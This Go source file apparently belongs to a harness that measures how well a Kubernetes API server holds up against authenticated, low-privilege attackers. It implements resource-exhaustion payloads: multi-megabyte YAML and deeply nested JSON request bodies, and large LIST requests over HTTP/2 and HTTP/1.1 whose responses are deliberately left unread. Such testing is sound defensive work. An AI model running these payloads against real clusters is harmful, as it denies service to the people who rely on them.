package attack

import (
	"context"
	"errors"
	"fmt"
	"io"
	"strings"

	"golang.org/x/net/http2"
)

// The attacker's account may read and write the ConfigMaps of its own namespace, and nothing else; so may that of the probe.
const (
	attackerNamespace = "attacker"
	probeNamespace    = "probe"
	attackerObjects   = "/api/v1/namespaces/" + attackerNamespace + "/configmaps"
	probeObject       = "/api/v1/namespaces/" + probeNamespace + "/configmaps/wanted"
)

// userAttacks come from somebody who is authenticated, and has no special rights.
func userAttacks() []Attack {
	return []Attack{
		{Name: "YAML of 3 MB, \"- a:\" and again", Unit: "requests", Connections: 5, Planned: 10, Window: longWindow,
			script: post("application/yaml", strings.Repeat("- a:\n", 600_000))},
		{Name: "JSON of 3 MB, nested lists", Unit: "requests", Connections: 5, Planned: 10,
			script: post("application/json", strings.Repeat("[", 3_000_000))},
		{Name: "LIST of 8 MiB over HTTP/2, not read", Unit: "requests", Connections: 4, Planned: 40, NeedsList: true, Window: longWindow,
			Silent: true,
			script: unreadLists},
		{Name: "LIST of 8 MiB over HTTP/1.1, not read", Unit: "requests", Connections: 40, Planned: 40, NeedsList: true, Window: longWindow,
			Silent: true,
			script: unreadListHTTP1},
	}
}

// post sends requests with one body, one after the other, and waits for each answer.
func post(contentType, body string) func(context.Context, *attacker) error {
	return func(ctx context.Context, a *attacker) error {
		c, err := a.dialHTTP2(ctx, h2options{})
		if err != nil {
			return err
		}
		block := fieldBlock("POST", attackerObjects, "content-type", contentType, "authorization", "Bearer "+a.AttackerToken,
			"content-length", fmt.Sprint(len(body)))
		for range a.units {
			id, err := c.request(block, []byte(body))
			if err != nil {
				return err
			}
			a.tally.sent.Add(1)
			if err := c.awaitAnswer(id); err != nil {
				return err
			}
		}
		return c.confirm()
	}
}

// request sends a request with a body, within the windows that the server grants, and returns its stream.
func (c *h2conn) request(block, body []byte) (uint32, error) {
	id, err := c.headers(block, false)
	if err != nil {
		return 0, err
	}
	for len(body) > 0 {
		piece := body[:min(16<<10, len(body))]
		body = body[len(piece):]
		if err := errors.Join(c.reserveStream(id, len(piece)), c.WriteData(id, len(body) == 0, piece)); err != nil {
			return 0, err
		}
	}
	return id, c.flush()
}

// unreadLists asks for lists with windows so large that the server can send all of them, and does not read.
func unreadLists(ctx context.Context, a *attacker) error {
	c, err := a.dialHTTP2(ctx, h2options{unread: true, settings: []http2.Setting{{ID: http2.SettingInitialWindowSize, Val: 1 << 30}}})
	if err != nil {
		return err
	}
	block := fieldBlock("GET", attackerObjects, "authorization", "Bearer "+a.AttackerToken)
	for range a.units {
		_, failed := c.headers(block, true)
		err = errors.Join(err, failed)
		a.tally.sent.Add(1)
	}
	return errors.Join(err, c.flush())
}

// unreadListHTTP1 asks for a list over HTTP/1.1 and does not read it.
func unreadListHTTP1(ctx context.Context, a *attacker) error {
	l, err := a.dialTLS(ctx, "http/1.1")
	if err != nil {
		return err
	}
	l.unread = true
	if _, err := io.WriteString(l.Conn,
		"GET "+attackerObjects+" HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "+a.AttackerToken+"\r\n\r\n"); err != nil {
		return err
	}
	a.tally.sent.Add(1)
	return nil
}
